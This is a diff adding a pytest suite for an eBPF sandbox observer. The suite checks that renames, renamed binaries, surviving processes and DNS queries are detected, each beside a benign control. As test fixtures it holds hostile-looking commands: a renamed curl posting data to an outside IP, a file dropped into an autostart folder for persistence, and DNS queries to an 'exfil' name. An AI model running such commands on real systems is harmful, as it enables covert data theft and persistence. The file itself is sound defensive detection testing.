@@ -1,0 +1,125 @@
+"""The eBPF observer, with real bpftrace on the real sandbox: paths as the kernel resolved
+them, programs known by content, processes that outlive the command, DNS queries, and
+failing closed where it cannot run. Each beside an open control."""
+
+from __future__ import annotations
+
+import pytest
+
+from assay.detonate.canaries import CanarySet
+from assay.detonate.mapping import Attribution, map_trace
+from assay.sandbox.bwrap import ebpf
+from assay.sandbox.bwrap.backend import BwrapBackend
+from assay.sandbox.interface import (
+    Home,
+    HomeFile,
+    InfrastructureError,
+    Observation,
+    ObserverKind,
+    ResourceLimits,
+    SealedRequest,
+)
+
+pytestmark = [
+    pytest.mark.sandbox,
+    pytest.mark.skipif(ebpf.unavailable() is not None, reason=str(ebpf.unavailable())),
+]
+
+LIMITS = ResourceLimits(
+    cpu_budget_s=5.0,
+    wall_backstop_s=30.0,
+    memory_bytes=256 << 20,
+    pids=32,
+    workspace_bytes=4 << 20,
+    result_bytes=1 << 16,
+)
+HOME = Home(user="sam", files=(HomeFile(".config/autostart/.keep", b""),))
+
+
+def dns_query(name: str) -> bytes:
+    """A DNS query for `name` (type A), as a resolver sends it."""
+    labels = b"".join(bytes((len(p),)) + p.encode() for p in name.split("."))
+    return bytes.fromhex("abcd01000001000000000000") + labels + b"\0\0\1\0\1"
+
+
+@pytest.fixture
+def backend(private_backend: BwrapBackend) -> BwrapBackend:
+    return private_backend
+
+
+def observe(backend: BwrapBackend, script: str, **request: object) -> Observation:
+    return backend.run(
+        SealedRequest(
+            argv=("/bin/sh", "-c", script),
+            limits=LIMITS,
+            observer=ObserverKind.EBPF,
+            **request,  # type: ignore[arg-type]
+        )
+    )
+
+
+def test_a_relative_rename_after_chdir_is_seen_at_the_resolved_path(
+    backend: BwrapBackend,
+) -> None:
+    script = (
+        "cd /tmp && echo '[Desktop Entry]' > run.desktop && cd /home/sam/.config/autostart"
+        " && mv ../../../../tmp/run.desktop ./run.desktop"
+        " && echo x > /tmp/open.txt && mv /tmp/open.txt /tmp/plain.txt"  # the open control
+    )
+    trace = observe(backend, script, home=HOME).trace
+    assert ("/tmp/run.desktop", "/home/sam/.config/autostart/run.desktop") in trace.renames
+    assert ("/tmp/open.txt", "/tmp/plain.txt") in trace.renames
+    assert "/tmp/run.desktop" in trace.writes
+
+
+def test_a_copy_of_curl_under_another_name_is_known_by_its_content(
+    backend: BwrapBackend,
+) -> None:
+    script = (
+        "cp /usr/bin/curl /tmp/updater;"
+        " /tmp/updater -s -d k=v http://203.0.113.7/u;"
+        " /usr/bin/curl -s -d k=v http://203.0.113.8/u"  # the open control
+    )
+    trace = observe(backend, script).trace
+    who = Attribution("core", CanarySet({}, {}, {}), frozenset(), (), frozenset())
+    posts = {e.argv[0] for e in map_trace(trace, who) if e.capability == "POST_WEB"}
+    assert posts == {"/tmp/updater", "/usr/bin/curl"}
+    (copy,) = [e for e in trace.executed if e.file == "/tmp/updater"]
+    (real,) = [e for e in trace.executed if e.file == "/usr/bin/curl"]
+    assert copy.sha256 == real.sha256 != ""
+
+
+def test_a_setsid_grandchild_that_outlives_the_command_is_reported(
+    backend: BwrapBackend,
+) -> None:
+    trace = observe(backend, "(setsid sleep 60 &); sleep 0.2 && echo waited").trace
+    assert trace.survivors == (("sleep", "60"),)
+    control = observe(backend, "(setsid sleep 0.1 &); sleep 0.5").trace
+    assert control.survivors == ()
+
+
+def test_dns_queries_are_decoded_from_sendto_and_from_a_connected_write(
+    backend: BwrapBackend,
+) -> None:
+    code = (
+        "import socket\n"
+        f"q = bytes.fromhex({dns_query('exfil.example.com').hex()!r})\n"
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "s.sendto(q, ('127.0.0.1', 53))\n"
+        "c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "c.connect(('127.0.0.1', 53))\n"
+        "import os; os.write(c.fileno(), q.replace(b'exfil', b'other'))\n"
+    )
+    trace = observe(backend, f'python3 -S -c "{code}"').trace
+    assert set(trace.dns_queries) >= {"exfil.example.com", "other.example.com"}
+    assert any(p.address == "127.0.0.1" and p.port == 53 for p in trace.connects)
+
+
+def test_without_bpftrace_the_run_fails_closed(
+    backend: BwrapBackend, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(ebpf, "BPFTRACE", "/nonexistent/bpftrace")
+    with pytest.raises(InfrastructureError, match="bpftrace is not installed"):
+        observe(backend, "true")
+    control = backend.run(SealedRequest(argv=("/bin/true",), limits=LIMITS))  # strace
+    assert control.exit_code == 0
